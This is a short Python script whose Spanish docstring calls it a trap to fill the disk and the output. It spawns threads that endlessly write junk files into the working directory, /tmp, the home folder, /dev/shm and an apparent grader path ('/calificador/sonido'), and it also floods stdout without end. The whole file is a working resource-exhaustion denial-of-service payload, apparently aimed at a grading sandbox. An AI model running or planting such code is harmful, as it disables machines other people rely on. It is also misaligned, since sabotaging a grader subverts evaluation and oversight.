"""Trampa: llenar el disco y la salida."""
import os
import threading


def llenar(carpeta):
    k = 0
    while True:
        try:
            with open(os.path.join(carpeta, f"basura{k}"), "wb") as archivo:
                while True:
                    archivo.write(b"x" * 1_000_000)
        except OSError:
            k += 1
            if k > 100_000:
                return


for carpeta in (".", "/tmp", os.path.expanduser("~"), "/dev/shm", "/calificador/sonido", "/tmp/.X11-unix"):
    threading.Thread(target=llenar, args=(carpeta,), daemon=True).start()
while True:
    print("x" * 10_000)
